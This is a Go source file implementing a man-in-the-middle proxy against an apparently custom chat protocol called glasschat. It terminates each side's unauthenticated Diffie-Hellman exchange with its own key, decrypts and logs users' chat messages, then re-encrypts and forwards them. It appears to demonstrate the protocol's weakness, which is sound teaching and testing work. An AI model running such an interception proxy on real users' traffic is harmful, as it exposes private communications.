// Package mitm implements the active attack the protocol admits: a
// proxy that terminates each side's Diffie-Hellman exchange with its
// own key material, so it shares one keystream with the client and a
// different one with the server. Application payloads are decrypted on
// the inbound leg, logged, re-encrypted on the outbound leg, and
// forwarded. The hash answer is forwarded untouched; nothing after it
// is authenticated, which is the whole point.
package mitm

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"fmt"
	"log/slog"
	"math/big"
	"net"
	"sync"

	"github.com/dustin/go-humanize"

	"github.com/glasschat/glasschat/internal/chat"
	"github.com/glasschat/glasschat/internal/config"
	"github.com/glasschat/glasschat/internal/conn"
	"github.com/glasschat/glasschat/internal/keystream"
	"github.com/glasschat/glasschat/internal/logging"
	"github.com/glasschat/glasschat/internal/transport"
	"github.com/glasschat/glasschat/internal/wire"
)

// Intercept is one plaintext chat message observed in transit.
type Intercept struct {
	Author  string
	Content string
}

// Proxy is the splice. Create with New, run with Start.
type Proxy struct {
	cfg    config.MITMConfig
	logger *slog.Logger

	listener transport.Listener

	mu         sync.Mutex
	started    bool
	closed     bool
	cancel     context.CancelFunc
	wg         sync.WaitGroup
	intercepts []Intercept
}

// New creates a proxy that accepts clients on cfg.Listen and splices
// them onto the real server at cfg.Upstream.
func New(cfg config.MITMConfig, logger *slog.Logger) *Proxy {
	if logger == nil {
		logger = logging.NopLogger()
	}
	return &Proxy{cfg: cfg, logger: logger}
}

// Start binds the listener and begins splicing connections.
func (p *Proxy) Start() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.started {
		return fmt.Errorf("proxy already started")
	}

	kind, err := transport.ParseKind(p.cfg.Transport)
	if err != nil {
		return err
	}
	ln, err := transport.Listen(kind, p.cfg.Listen)
	if err != nil {
		return err
	}
	p.listener = ln
	p.started = true

	ctx, cancel := context.WithCancel(context.Background())
	p.cancel = cancel

	p.logger.Info("splice listening",
		logging.KeyAddress, ln.Addr().String(),
		"upstream", p.cfg.Upstream)

	p.wg.Add(1)
	go p.acceptLoop(ctx, kind)
	return nil
}

// Addr returns the bound listener address.
func (p *Proxy) Addr() net.Addr {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.listener == nil {
		return nil
	}
	return p.listener.Addr()
}

// Stop closes the listener and waits for in-flight splices.
func (p *Proxy) Stop(ctx context.Context) error {
	p.mu.Lock()
	if !p.started || p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	p.cancel()
	p.listener.Close()
	p.mu.Unlock()

	done := make(chan struct{})
	go func() {
		p.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Intercepts returns the plaintext messages captured so far.
func (p *Proxy) Intercepts() []Intercept {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Intercept, len(p.intercepts))
	copy(out, p.intercepts)
	return out
}

func (p *Proxy) record(author, content string) {
	p.mu.Lock()
	p.intercepts = append(p.intercepts, Intercept{Author: author, Content: content})
	p.mu.Unlock()
	p.logger.Info("intercepted message",
		logging.KeyAuthor, author,
		"content", content)
}

func (p *Proxy) acceptLoop(ctx context.Context, kind transport.Kind) {
	defer p.wg.Done()

	for {
		c, err := p.listener.Accept()
		if err != nil {
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				return
			}
			p.logger.Warn("accept failed", logging.KeyError, err)
			continue
		}

		p.wg.Add(1)
		go func() {
			defer p.wg.Done()
			p.splice(ctx, kind, c)
		}()
	}
}

// splice runs one spliced session: a server role toward the real
// client, a client role toward the real server.
func (p *Proxy) splice(ctx context.Context, kind transport.Kind, clientConn net.Conn) {
	logger := p.logger.With(logging.KeyRemoteAddr, clientConn.RemoteAddr().String())
	defer clientConn.Close()

	serverConn, err := transport.Dial(ctx, kind, p.cfg.Upstream)
	if err != nil {
		logger.Error("upstream dial failed", logging.KeyError, err)
		return
	}
	defer serverConn.Close()

	sess, err := newSession(p, logger)
	if err != nil {
		logger.Error("session setup failed", logging.KeyError, err)
		return
	}
	sess.run(clientConn, serverConn)
}

// session holds the per-splice key material: one keystream per leg.
type session struct {
	proxy  *Proxy
	logger *slog.Logger

	mySecret *big.Int
	myPublic *big.Int
	serverP  *big.Int

	clientGamma *keystream.Generator
	serverGamma *keystream.Generator

	author     string
	plainBytes uint64
}

func newSession(p *Proxy, logger *slog.Logger) (*session, error) {
	// The exponent is drawn from [3, 2^63+3); any positive exponent
	// works, as it is reduced modulo the group order anyway.
	bound := new(big.Int).Lsh(big.NewInt(1), 63)
	secret, err := rand.Int(rand.Reader, bound)
	if err != nil {
		return nil, fmt.Errorf("draw splice secret: %w", err)
	}
	secret.Add(secret, big.NewInt(3))

	return &session{
		proxy:    p,
		logger:   logger,
		mySecret: secret,
		// Placeholders until the real exchange parameters arrive.
		serverP:     big.NewInt(2),
		clientGamma: keystream.New(big.NewInt(1)),
		serverGamma: keystream.New(big.NewInt(1)),
	}, nil
}

func (s *session) run(clientConn, serverConn net.Conn) {
	clientLeg := conn.NewFramer(clientConn)
	serverLeg := conn.NewFramer(serverConn)

	defer func() {
		s.logger.Info("splice ended",
			logging.KeyAuthor, s.author,
			"plaintext", humanize.Bytes(s.plainBytes))
	}()

	for {
		raw, err := clientLeg.ReadFrame()
		if err != nil {
			return
		}
		msg, err := wire.ParseClientMessage(raw)
		if err != nil {
			s.logger.Warn("undecodable client frame", logging.KeyError, err)
			return
		}

		if _, ok := msg.(wire.ClientGoodbye); ok {
			writeClientFrame(serverLeg, msg)
			return
		}

		forward, err := s.onClientMessage(msg)
		if err != nil {
			s.logger.Warn("client leg failed", logging.KeyError, err)
			return
		}
		if err := writeClientFrame(serverLeg, forward); err != nil {
			return
		}

		rawReply, err := serverLeg.ReadFrame()
		if err != nil {
			return
		}
		reply, err := wire.ParseServerMessage(rawReply)
		if err != nil {
			s.logger.Warn("undecodable server frame", logging.KeyError, err)
			return
		}

		forwardReply, err := s.onServerMessage(reply)
		if err != nil {
			s.logger.Warn("server leg failed", logging.KeyError, err)
			return
		}
		if err := writeServerFrame(clientLeg, forwardReply); err != nil {
			return
		}

		if _, ok := reply.(wire.ServerError); ok {
			return
		}
	}
}

func writeClientFrame(f conn.Framer, msg wire.ClientMessage) error {
	data, err := wire.EncodeClientMessage(msg)
	if err != nil {
		return err
	}
	return f.WriteFrame(data)
}

func writeServerFrame(f conn.Framer, msg wire.ServerMessage) error {
	data, err := wire.EncodeServerMessage(msg)
	if err != nil {
		return err
	}
	return f.WriteFrame(data)
}

// onClientMessage rewrites one client frame for the server leg.
func (s *session) onClientMessage(msg wire.ClientMessage) (wire.ClientMessage, error) {
	switch m := msg.(type) {
	case wire.ConnectRequest:
		s.author = m.Username
		return msg, nil

	case wire.DiffieAnswer:
		// Terminate the client's exchange with our own key, and
		// hand the server the public value we derived from its
		// parameters.
		clientShared := new(big.Int).Exp(m.ClientPublicValue, s.mySecret, s.serverP)
		s.clientGamma = keystream.New(clientShared)
		if s.myPublic == nil {
			return nil, fmt.Errorf("diffie answer before server parameters")
		}
		return wire.DiffieAnswer{ClientPublicValue: s.myPublic}, nil

	case wire.ClientData:
		plain, err := s.reveal(m.Data, s.clientGamma)
		if err != nil {
			return nil, err
		}
		if req, err := chat.ParseRequest(plain); err == nil {
			if w, ok := req.(chat.WriteRequest); ok {
				s.proxy.record(s.author, w.Content)
			}
		}
		return wire.ClientData{Data: s.conceal(plain, s.serverGamma)}, nil

	default:
		// Hash answers and errors pass through untouched.
		return msg, nil
	}
}

// onServerMessage rewrites one server frame for the client leg.
func (s *session) onServerMessage(msg wire.ServerMessage) (wire.ServerMessage, error) {
	switch m := msg.(type) {
	case wire.DiffieRequest:
		// Terminate the server's exchange and offer the client our
		// own public value under the same group.
		s.serverP = m.P
		s.myPublic = new(big.Int).Exp(m.G, s.mySecret, m.P)
		serverShared := new(big.Int).Exp(m.ServerPublicValue, s.mySecret, m.P)
		s.serverGamma = keystream.New(serverShared)
		return wire.DiffieRequest{G: m.G, P: m.P, ServerPublicValue: s.myPublic}, nil

	case wire.ServerCryptogramm:
		plain, err := s.reveal(m.Content, s.serverGamma)
		if err != nil {
			return nil, err
		}
		return wire.ServerCryptogramm{Content: s.conceal(plain, s.clientGamma)}, nil

	default:
		return msg, nil
	}
}

// reveal decrypts a base64 payload with the given leg's keystream.
func (s *session) reveal(data string, gamma *keystream.Generator) ([]byte, error) {
	raw, err := base64.StdEncoding.DecodeString(data)
	if err != nil {
		return nil, fmt.Errorf("payload is not valid base64: %w", err)
	}
	plain := keystream.XORBytes(raw, gamma.Gamma(len(raw)))
	s.plainBytes += uint64(len(plain))
	return plain, nil
}

// conceal re-encrypts a plaintext with the other leg's keystream.
func (s *session) conceal(plain []byte, gamma *keystream.Generator) string {
	return base64.StdEncoding.EncodeToString(keystream.XORBytes(plain, gamma.Gamma(len(plain))))
}

